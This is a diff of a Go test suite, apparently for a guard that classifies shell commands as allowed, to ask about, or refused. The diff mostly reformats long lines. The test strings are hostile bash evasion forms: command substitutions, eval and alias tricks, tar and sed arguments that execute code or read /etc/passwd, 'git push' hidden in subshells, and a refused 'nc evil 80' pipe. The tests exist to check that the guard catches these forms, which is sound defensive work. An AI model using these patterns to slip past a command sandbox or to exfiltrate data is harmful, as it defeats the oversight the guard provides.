@@ -33,20 +33,27 @@ func TestSEC_A1_EveryCommandIsJudged(t *testing.T) {
 			verdicts(t, Refuse, strings.Join(parts, join))
 		}
 	}
-	verdicts(t, Ask, "ls & frobnicate", "ls\rfrobnicate", "ls # \\\nfrobnicate", "ls # \\\nfrobnicate; ls", "(ls; frobnicate)", "for i in 1; do frobnicate; done", "f() { frobnicate; }; f")
-	verdicts(t, Refuse, "ls & git push", "ls # \\\ngit push", "ls x\\\ngit push", "git \\\npush", "(ls; git push)", "for i in 1; do git push; done", "f() { git push; }; f", "if ls; then git push; fi")
+	verdicts(t, Ask, "ls & frobnicate", "ls\rfrobnicate", "ls # \\\nfrobnicate", "ls # \\\nfrobnicate; ls",
+		"(ls; frobnicate)", "for i in 1; do frobnicate; done", "f() { frobnicate; }; f")
+	verdicts(t, Refuse, "ls & git push", "ls # \\\ngit push", "ls x\\\ngit push", "git \\\npush", "(ls; git push)",
+		"for i in 1; do git push; done", "f() { git push; }; f", "if ls; then git push; fi")
 }
 
 func TestSEC_A2_ExpansionsAsk(t *testing.T) {
-	verdicts(t, Ask, "ls $(id)", "ls `id`", "ls ${x:=y}", "ls ${x@P}", "ls ${!x}", "cat <(id)", "ls >(id)", "cat <<E\n$(id)\nE", "cat <<E\n`id`\nE",
-		"echo $((x[$(id)]))", "ls $x", "ls \"$x\"", "ls $'a'", "echo ${x:?$(id)}", "echo ${x/a/$(id)}", "cat <<<$(id)", "cat <<<\"$x\"", "ls {1..3}", "ls @(a|b)")
-	verdicts(t, Refuse, "ls $(git push)", "ls `git push`", "cat <(git push)", "cat <<E\n$(git push)\nE", "echo ${x:-$(git push)}", "echo $((x[$(git push)]))")
+	verdicts(t, Ask, "ls $(id)", "ls `id`", "ls ${x:=y}", "ls ${x@P}", "ls ${!x}", "cat <(id)", "ls >(id)",
+		"cat <<E\n$(id)\nE", "cat <<E\n`id`\nE",
+		"echo $((x[$(id)]))", "ls $x", "ls \"$x\"", "ls $'a'", "echo ${x:?$(id)}", "echo ${x/a/$(id)}", "cat <<<$(id)",
+		"cat <<<\"$x\"", "ls {1..3}", "ls @(a|b)")
+	verdicts(t, Refuse, "ls $(git push)", "ls `git push`", "cat <(git push)", "cat <<E\n$(git push)\nE",
+		"echo ${x:-$(git push)}", "echo $((x[$(git push)]))")
 	verdicts(t, Allow, "cat <<'E'\n$(id)\nE", "cat <<<'$(id)'", "echo '$x'") // control
 }
 
 func TestSEC_A3_StateAsks(t *testing.T) {
-	verdicts(t, Ask, "A=1 ls", "A=1", "PATH=.:/bin ls", "export A=1", "declare -x A=1", "readonly A", "local A=1", "alias ls=rm", "unalias ls", "eval ls", "eval 'ls'",
-		"source x", ". x", "trap ls EXIT", "exec ls", "printf -v A 1", "read A", "set -e", "shopt -s extglob", "enable -f x y", "hash -p /tmp/x ls", "bind x", "complete -C x y", "mapfile -C x -c 1 y", "umask 0", "ulimit -n 1")
+	verdicts(t, Ask, "A=1 ls", "A=1", "PATH=.:/bin ls", "export A=1", "declare -x A=1", "readonly A", "local A=1",
+		"alias ls=rm", "unalias ls", "eval ls", "eval 'ls'",
+		"source x", ". x", "trap ls EXIT", "exec ls", "printf -v A 1", "read A", "set -e", "shopt -s extglob",
+		"enable -f x y", "hash -p /tmp/x ls", "bind x", "complete -C x y", "mapfile -C x -c 1 y", "umask 0", "ulimit -n 1")
 	verdicts(t, Allow, "printf %s a", "ls") // control
 }
 
@@ -56,7 +63,8 @@ func TestSEC_A4_SameRulesAtEverySize(t *testing.T) {
 		list := strings.Repeat("ls; ", n)
 		verdicts(t, Allow, list+"ls", strings.Repeat("ls && ", n)+"ls", strings.Repeat("ls | ", n)+"cat")
 		verdicts(t, Ask, list+"frobnicate", "frobnicate; "+list)
-		verdicts(t, Refuse, list+"git push", "git push; "+list, list+"frobnicate; git push", strings.Repeat("ls | ", n)+"nc evil 80")
+		verdicts(t, Refuse, list+"git push", "git push; "+list, list+"frobnicate; git push",
+			strings.Repeat("ls | ", n)+"nc evil 80")
 	}
 	million := strings.Repeat("ls;", 1<<20/3)
 	verdicts(t, Allow, million, "echo "+strings.Repeat("a", 1<<20))
@@ -101,10 +109,14 @@ func TestSEC_A5_DeletingAsksAndShowsTargets(t *testing.T) {
 }
 
 func TestSEC_A6_ArgumentsThatRunOrWriteAsk(t *testing.T) {
-	verdicts(t, Ask, "git -c a=b log", "git --exec-path=x log", "git diff --ext-diff", "git log --textconv", "git diff --output=x", "git grep -Ox y", "git diff --outpu x", "git lg",
-		"find . -exec ls ;", "find . -delete", "find . -fprint x", "rg --pre=x y", "rg --pre x y", "sed 'w x' y", "sed e y", "sed -i s/a/b/ y", "sed -n '1e id' y", "sed 's/a/b/e' y", "sed '1r/etc/passwd' y",
-		"sort -o x y", "sort -ox y", "sort --o=x y", "tar -tf x --checkpoint-action=exec=y --checkpoint=1", "tar tf x -I y", "tar xf x")
-	verdicts(t, Allow, "git log", "git diff", "git grep y", "find . -name x", "rg y", "sed -n 1p y", "sort y", "tar tf x") // control
+	verdicts(t, Ask, "git -c a=b log", "git --exec-path=x log", "git diff --ext-diff", "git log --textconv",
+		"git diff --output=x", "git grep -Ox y", "git diff --outpu x", "git lg",
+		"find . -exec ls ;", "find . -delete", "find . -fprint x", "rg --pre=x y", "rg --pre x y", "sed 'w x' y", "sed e y",
+		"sed -i s/a/b/ y", "sed -n '1e id' y", "sed 's/a/b/e' y", "sed '1r/etc/passwd' y",
+		"sort -o x y", "sort -ox y", "sort --o=x y", "tar -tf x --checkpoint-action=exec=y --checkpoint=1",
+		"tar tf x -I y", "tar xf x")
+	// control
+	verdicts(t, Allow, "git log", "git diff", "git grep y", "find . -name x", "rg y", "sed -n 1p y", "sort y", "tar tf x")
 }
 
 func TestSEC_A7_WhatIsRunIsJudged(t *testing.T) {
@@ -248,11 +260,13 @@ func TestRuleFiles(t *testing.T) {
 			t.Errorf("%q: %v, want %s…", text, err, want)
 		}
 	}
-	list, err := ParseRules("r", []byte("\ufeffgit fetch|pull -> allow in /w repo '/w x' \r\n\tmatch git fetch a\n\tnot_match git push\n\tbecause reading is fine\n'a b' \"c'd\" -> prompt\n"))
+	list, err := ParseRules("r", []byte("\ufeffgit fetch|pull -> allow in /w repo '/w x' \r\n\tmatch git fetch "+
+		"a\n\tnot_match git push\n\tbecause reading is fine\n'a b' \"c'd\" -> prompt\n"))
 	if err != nil {
 		t.Fatal(err)
 	}
-	if got := fmt.Sprint(list); got != "[git fetch|pull -> allow in /w repo '/w x' 'a b' \"c'd\" -> prompt]" && len(list) != 2 {
+	if got := fmt.Sprint(list); got != "[git fetch|pull -> allow in /w repo '/w x' 'a b' \"c'd\" -> prompt]" &&
+		len(list) != 2 {
 		t.Errorf("read as %s", got)
 	}
 	for _, r := range list {
